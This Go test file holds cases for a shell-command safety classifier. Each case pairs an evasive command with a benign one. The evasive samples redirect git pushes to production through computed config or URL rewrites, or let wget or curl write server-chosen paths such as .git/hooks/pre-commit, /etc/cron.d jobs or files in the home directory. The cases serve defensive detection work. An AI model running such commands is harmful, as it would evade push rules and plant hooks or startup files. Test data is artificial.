package safety

// nineteenthCatalogue holds the nineteenth engine review's rows. git push's target was read from
// -c settings only when they were literal: git --config-env=remote.pushDefault=P push (P from the
// environment) and git -c remote.pushDefault="$R" push pushed where a project rule on the remote
// could not see, admitted, and git -c remote.origin.url=URL (pushurl, url.BASE.insteadOf,
// pushInsteadOf) sent a push to "origin" to another repository unseen by a rule on its URL.
// GIT_CONFIG_KEY_n/GIT_CONFIG_VALUE_n exported alone set git's configuration when the
// environment already holds GIT_CONFIG_COUNT. curl -OJ and wget --content-disposition (also
// --trust-server-names, -i FILE, a recursive download without its host directory) write a file
// whose name the server chooses, admitted as the URL's own name: in ~ that can be .bashrc, in the
// project .envrc. wget -x (and a recursive download) writes the URL's whole path below the host's
// directory, or below the working directory with -nH: wget -x -nH http://x/.git/hooks/pre-commit
// wrote a hook, judged as a write of ./pre-commit.
func nineteenthCatalogue() []classCase {
	sh := shCall
	const (
		pushTarget = "git push's target set by a setting computed at run time or redirected by a URL setting"
		serverName = "a download writes the name the server chooses, or the URL's whole path"
	)
	dynWrite, noWrite := asked(RuleDynamicWriteTarget), denied(RulePrefixPathPolicy+"noWrite")
	pushProd, pushURL := asked(dc+"git-push-prod"), asked(dc+"git-push-prod-url")
	unresolved := asked(RuleUnresolvedWord)
	return []classCase{
		{pushTarget, "--config-env=remote.pushDefault from the environment", sh(`git --config-env=remote.pushDefault=P push`), unresolved,
			sh(`P=origin git --config-env=remote.pushDefault=P push`), false},
		{pushTarget, "--config-env apart", sh(`git --config-env remote.pushDefault=P push`), unresolved, sh(`git --config-env color.ui=C push`), false},
		{pushTarget, "-c remote.pushDefault computed", sh(`git -c remote.pushDefault="$R" push`), unresolved, sh(`git -c remote.pushDefault=origin push`), false},
		{pushTarget, "-c with the whole setting computed but its key", sh(`git -c "remote.pushDefault=$R" push`), unresolved, sh(`git -c "push.default=$D" push`), false},
		{pushTarget, "branch.NAME.pushRemote from the environment", sh(`git --config-env=branch.main.pushRemote=P push`), unresolved,
			sh(`git --config-env=branch.main.pushRemote=P push origin main`), false},
		{pushTarget, "branch.NAME.remote computed", sh(`git -c branch.main.remote=$R push`), unresolved, sh(`git -c branch.main.merge=$M push`), false},
		{pushTarget, "remote.NAME.pushurl computed", sh(`git -c remote.origin.pushurl="$U" push origin main`), unresolved,
			sh(`git -c remote.origin.pushurl=https://staging.example/app.git push origin main`), false},
		{pushTarget, "remote.NAME.url from the environment", sh(`git --config-env=remote.origin.url=U push origin`), unresolved,
			sh(`git --config-env=remote.origin.url=U fetch origin`), false},
		{pushTarget, "remote.NAME.url to the production repository", sh(`git -c remote.origin.url=https://prod.example/app.git push origin`), pushURL,
			sh(`git -c remote.origin.url=https://staging.example/app.git push origin`), false},
		{pushTarget, "remote.NAME.pushurl, case folded", sh(`git -c Remote.Origin.PushURL=https://prod.example/app.git push origin main`), pushURL,
			sh(`git -c remote.origin.pushurl=https://staging.example/app.git push origin main`), false},
		{pushTarget, "url.BASE.pushInsteadOf rewrites the URL given", sh(`git -c url.https://prod.example/.pushInsteadOf=https://staging.example/ push https://staging.example/app.git`), pushURL,
			sh(`git -c url.https://mirror.example/.pushInsteadOf=https://staging.example/ push https://staging.example/app.git`), false},
		{pushTarget, "url.BASE.insteadOf, --config-env", sh(`V=https://staging.example/ git --config-env=url.https://prod.example/.insteadOf=V push https://staging.example/app.git main`), pushURL,
			sh(`git push https://staging.example/app.git main`), false},
		{pushTarget, "url.BASE.insteadOf naming the remote", sh(`git -c url.prod.insteadOf=origin push origin`), pushProd, sh(`git -c url.staging.insteadOf=origin push origin`), false},
		{pushTarget, "GIT_CONFIG_KEY_0 exported alone", sh(`export GIT_CONFIG_KEY_0=remote.pushDefault GIT_CONFIG_VALUE_0=prod; git push`), asked(RuleOpaqueCode),
			sh(`export GIT_CONFIG_NOSYSTEM=1; git push`), false},
		{pushTarget, "GIT_CONFIG_VALUE_1 as a prefix", sh(`GIT_CONFIG_VALUE_1=id git log`), asked(RuleOpaqueCode), sh(`GIT_TERMINAL_PROMPT=0 git log`), false},
		{serverName, "curl -O -J", sh(`curl -O -J https://x.example/dl`), dynWrite, sh(`curl -O https://x.example/dl`), false},
		{serverName, "curl -OJ bundled, in the home directory", sh(`cd ~ && curl -sSLOJ https://x.example/dl`), dynWrite, sh(`cd build && curl -sSLO https://x.example/dl.tgz`), false},
		{serverName, "curl's long spellings", sh(`curl --remote-name --remote-header-name https://x.example/dl`), dynWrite, sh(`curl --remote-header-name -o out.bin https://x.example/dl`), false},
		{serverName, "curl -OJ into --output-dir", sh(`curl -OJ --output-dir ~ https://x.example/dl`), dynWrite, sh(`curl -O --output-dir build https://x.example/dl.tgz`), false},
		{serverName, "wget --content-disposition", sh(`wget --content-disposition https://x.example/dl`), dynWrite, sh(`wget --content-disposition=off https://x.example/dl`), false},
		{serverName, "wget --content-disposition abbreviated, into ~", sh(`wget --content-disp -P ~ https://x.example/dl`), dynWrite, sh(`wget -P build https://x.example/dl.tgz`), false},
		{serverName, "wget --trust-server-names", sh(`wget --trust-server-names https://x.example/latest`), dynWrite, sh(`wget -O latest.tgz --trust-server-names https://x.example/latest`), false},
		{serverName, "wget -i, URLs from a file", sh(`wget -i urls.txt`), dynWrite, sh(`wget -O - -i urls.txt`), false},
		{serverName, "wget -r -nd, the links' names in the directory", sh(`wget -r -nd https://x.example/`), dynWrite, sh(`wget -r https://x.example/docs/`), false},
		{serverName, "wget -m -nH", sh(`cd ~ && wget -m -nH https://x.example/`), dynWrite, sh(`wget -m https://x.example/`), false},
		{serverName, "wget -x -nH writes the URL's path", sh(`wget -x -nH https://x.example/.git/hooks/pre-commit`), noWrite, sh(`wget -x -nH https://x.example/docs/a.html`), false},
		{serverName, "wget --force-directories below /", sh(`wget --force-directories --no-host-directories -P / https://x.example/etc/cron.d/job`), noWrite,
			sh(`wget --force-directories -P build https://x.example/etc/cron.d/job`), false},
		{serverName, "wget -r -nH for a page's own path", sh(`wget -r -l1 -nH https://x.example/.git/hooks/pre-push`), noWrite, sh(`wget -r -l1 https://x.example/docs/`), false},
	}
}
